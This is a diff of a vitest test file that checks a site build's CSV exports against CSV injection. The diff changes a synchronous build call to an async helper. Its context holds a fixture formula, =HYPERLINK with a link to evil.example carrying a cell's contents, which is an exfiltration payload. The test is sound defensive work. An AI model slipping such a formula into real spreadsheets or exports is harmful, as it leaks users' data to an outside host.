@@ -2,13 +2,14 @@
 // snapshot whose texts came from a hostile import file: no cell may start
 // like a formula (CSV injection), and numbers — negative ones too — stay
 // numbers. Also: stopping the build wrapper stops Astro with it.
-import { spawn, spawnSync } from 'node:child_process';
+import { spawn } from 'node:child_process';
 import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { startsLikeFormula, type Snapshot } from '@sdd/shared-types';
 import { parseCsv } from '../support/read-csv.ts';
+import { runScript } from '../../../scripts/test/run-script.ts';
 
 const siteRoot = resolve(import.meta.dirname, '..', '..');
 const BUILD = join(siteRoot, 'scripts', 'build.ts');
@@ -18,7 +19,7 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Quelle")';
 
 let kpiCode = '';
 
-beforeAll(() => {
+beforeAll(async () => {
   const snapshot = JSON.parse(readFileSync(inject('snapshotFile'), 'utf8')) as Snapshot;
   const kpi = snapshot.kpis[0]!;
   kpiCode = kpi.code;
@@ -31,12 +32,14 @@ beforeAll(() => {
   const snapshotFile = join(work, 'snapshot.json');
   writeFileSync(snapshotFile, JSON.stringify(snapshot));
   // Without PNGs (as preview builds): faster, and the links to them must then be absent, not broken.
-  const build = spawnSync(process.execPath, [BUILD], {
-    cwd: siteRoot,
-    env: { ...process.env, SNAPSHOT_FILE: snapshotFile, SITE_OUT_DIR: outDir, SITE_PNG_IMAGES: '0' },
-    encoding: 'utf8',
-  });
-  if (build.status !== 0) throw new Error(`site build failed:\n${build.stdout}\n${build.stderr}`);
+  // A child that does not block the test's event loop (the file's servers keep answering meanwhile).
+  const build = await runScript(
+    BUILD,
+    [],
+    { SNAPSHOT_FILE: snapshotFile, SITE_OUT_DIR: outDir, SITE_PNG_IMAGES: '0' },
+    { cwd: siteRoot },
+  );
+  if (build.code !== 0) throw new Error(`site build failed:\n${build.out}\n${build.err}`);
 }, 300_000);
 
 afterAll(() => rmSync(work, { recursive: true, force: true }));
